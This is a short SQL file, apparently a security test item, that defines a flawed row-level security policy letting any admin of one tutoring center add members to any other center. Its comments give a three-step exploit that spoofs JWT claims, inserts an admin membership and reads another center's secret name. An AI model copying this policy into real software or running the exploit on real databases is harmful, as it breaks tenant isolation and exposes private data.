-- The bare center_id is that of the admin's own membership, so an admin can add members to any center.
-- about: center_members, Admins add members
-- as: hf_tutorbee_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-4000-8000-000000000001"}';
-- exploit: INSERT INTO center_members VALUES
-- exploit: ('b1000000-0000-4000-8000-000000000000', 'a0000000-0000-4000-8000-000000000001', 'admin');
-- exploit: SELECT name FROM centers;
-- shows: Road-secret Tutors
GRANT INSERT ON center_members TO hf_tutorbee_app;
CREATE POLICY "Admins add members" ON center_members FOR INSERT
  WITH CHECK (EXISTS (
    SELECT 1 FROM center_members m
    WHERE m.center_id = center_id AND m.user_id = uid() AND m.role = 'admin'));
